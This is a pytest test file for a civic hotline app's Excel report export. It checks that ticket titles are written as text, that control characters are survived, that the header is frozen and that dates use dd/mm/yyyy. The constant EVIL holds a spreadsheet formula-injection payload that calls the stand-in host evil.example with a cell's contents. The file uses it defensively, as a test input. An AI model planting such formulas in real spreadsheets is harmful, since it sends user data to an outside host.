"""Issue 13 (items 1, 2, 15): the hotline report writes user text as text, survives a control character, and keeps
its header in view with filters and dates as dd/mm/yyyy."""

import io
from datetime import datetime

from openpyxl import load_workbook

from .conftest import vn

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Bấm vào đây")'


def test_the_hotline_report_writes_a_hostile_title_as_text_and_survives_a_control_character(
    client_for, routing, alice, file_question
):
    from civicdesk.hotline.models import Ticket

    ticket = file_question(alice, now=vn(2026, 2, 11, 9, 0), title="Câu hỏi thường")
    # Data from before input validation, or from a channel: the export must not break or run it.
    Ticket.objects.filter(pk=ticket.pk).update(title=EVIL + "\x0b")
    response = client_for(alice).get("/hotline/reports/export.xlsx")
    assert response.status_code == 200
    assert 'filename="duong-day-nong-' in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["Câu hỏi"]
    titles = [c for c in sheet[2] if c.value == EVIL]
    assert titles and titles[0].data_type == "s"
    assert not [c for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
    assert (
        isinstance(sheet.cell(2, 2).value, datetime) and sheet.cell(2, 2).number_format == "dd/mm/yyyy hh:mm"
    )
